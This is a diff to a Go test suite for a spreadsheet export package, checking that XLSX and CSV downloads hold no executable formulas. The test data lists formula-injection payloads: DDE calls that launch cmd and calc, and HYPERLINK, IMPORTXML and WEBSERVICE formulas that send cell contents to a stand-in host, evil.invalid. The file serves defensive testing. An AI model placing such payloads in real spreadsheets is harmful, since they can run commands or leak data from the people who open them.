@@ -1,7 +1,10 @@
 package sheet
 
 import (
+	"archive/zip"
 	"bytes"
+	"encoding/csv"
+	"io"
 	"strings"
 	"testing"
 
@@ -158,6 +161,124 @@ func TestGuard(t *testing.T) {
 	} {
 		if got := guard(tt.in); got != tt.want {
 			t.Errorf("guard(%q) = %q; want %q", tt.in, got, tt.want)
+		}
+	}
+}
+
+// formulas are what spreadsheets run, or once ran: every sign that begins one, as it is, behind what people do
+// not see, and in front of what they do.
+func formulas() []string {
+	var list []string
+	for _, before := range []string{"", " ", "\u3000", "\u00a0", "\u200b", "\ufeff", "\v\f"} {
+		for _, sign := range []string{"=", "+", "-", "@", "＝", "＋", "－", "＠"} {
+			for _, what := range []string{`cmd|' /C calc'!A0`, `HYPERLINK("https://evil.invalid/"&A1,"点此")`, "1+1"} {
+				list = append(list, before+sign+what)
+			}
+		}
+	}
+	for _, first := range []string{"\t", "\r", "\n", "\r\n", "\t\t", " \t"} {
+		list = append(list, first+"=1+1", first+"@SUM(A1)", first+"－2+3")
+	}
+	return append(list, "=", "+", "-", "@", "==1", "=-1", "+-1", "-+1", "--1", "-1-1", "-12.5%", "+1e9", "-1,000", "=\"a\"", "@A1", "-(1)", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=WEBSERVICE(\"https://evil.invalid/\")", "=IMPORTXML(CONCAT(\"https://evil.invalid/\",A1),\"//a\")")
+}
+
+// No text of a download is a formula, wherever it stands: in a cell, a heading, a note, above and below.
+func TestNoDownloadHoldsAFormula(t *testing.T) {
+	hostile := formulas()
+	if len(hostile) < 100 {
+		t.Fatalf("%d formulas", len(hostile))
+	}
+	s := Sheet{Name: hostile[0], Above: hostile[:20], Below: hostile[20:40], Notes: hostile, Columns: Columns([]string{edition.Inside}, "案号", hostile[1], hostile[2])}
+	for _, f := range hostile {
+		s.Rows = append(s.Rows, []Cell{Text(f), Text("备注"), Text(f)})
+	}
+	for _, paper := range []bool{false, true} {
+		s.Paper = paper
+		var b bytes.Buffer
+		if err := WriteXLSX(&b, edition.Internal(), period.NoDate, s); err != nil {
+			t.Fatal(err)
+		}
+		f, err := excelize.OpenReader(bytes.NewReader(b.Bytes()))
+		if err != nil {
+			t.Fatal(err)
+		}
+		held := 0
+		for _, tab := range f.GetSheetList() {
+			rows, err := f.GetRows(tab)
+			if err != nil {
+				t.Fatal(err)
+			}
+			for y, row := range rows {
+				for x := range row {
+					name, _ := excelize.CoordinatesToCellName(x+1, y+1)
+					if formula, err := f.GetCellFormula(tab, name); formula != "" || err != nil {
+						t.Errorf("%s!%s is the formula %q, %v", tab, name, formula, err)
+					}
+					held++
+				}
+			}
+		}
+		if held < 3*len(hostile) {
+			t.Errorf("%d cells were read", held)
+		}
+		z, err := zip.NewReader(bytes.NewReader(b.Bytes()), int64(b.Len()))
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, part := range z.File {
+			r, err := part.Open()
+			if err != nil {
+				t.Fatal(err)
+			}
+			text, err := io.ReadAll(r)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if strings.HasPrefix(part.Name, "xl/worksheets/") && bytes.Contains(text, []byte("<f>")) || strings.Contains(part.Name, "externalLink") {
+				t.Errorf("%s can run something", part.Name)
+			}
+		}
+	}
+	var b bytes.Buffer
+	if err := WriteCSV(&b, edition.Internal(), s); err != nil {
+		t.Fatal(err)
+	}
+	records, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(b.String(), "\ufeff"))).ReadAll()
+	if err != nil || len(records) != len(hostile)+1 {
+		t.Fatalf("%d records, %v", len(records), err)
+	}
+	for y, record := range records {
+		for x, cell := range record {
+			if begins(cell) {
+				t.Errorf("row %d, column %d begins with a formula: %q", y, x, cell)
+			}
+		}
+		// A CSV of CRLF line ends holds no carriage return of its own.
+		if y > 0 && strings.ReplaceAll(record[0], "\r", "") != strings.ReplaceAll("'"+hostile[y-1], "\r", "") {
+			t.Errorf("%q became %q", hostile[y-1], record[0])
+		}
+	}
+}
+
+// begins tells, in words of its own, whether a spreadsheet may take a text for a formula.
+func begins(cell string) bool {
+	for _, r := range cell {
+		switch r {
+		case '=', '+', '-', '@', '＝', '＋', '－', '＠', '\t', '\r', '\n':
+			return true
+		case ' ', '\u3000', '\u00a0', '\u200b', '\ufeff', '\v', '\f':
+			continue
+		}
+		return false
+	}
+	return false
+}
+
+// A number is no formula, and stays one that spreadsheets add up.
+func TestNumbersOfDownloadsStayNumbers(t *testing.T) {
+	for _, number := range []string{"0", "-1", "+1", "-12.5", "+0.25", "20250000000000123", "-0"} {
+		if got := guard(number); got != number {
+			t.Errorf("guard(%q) = %q", number, got)
 		}
 	}
 }
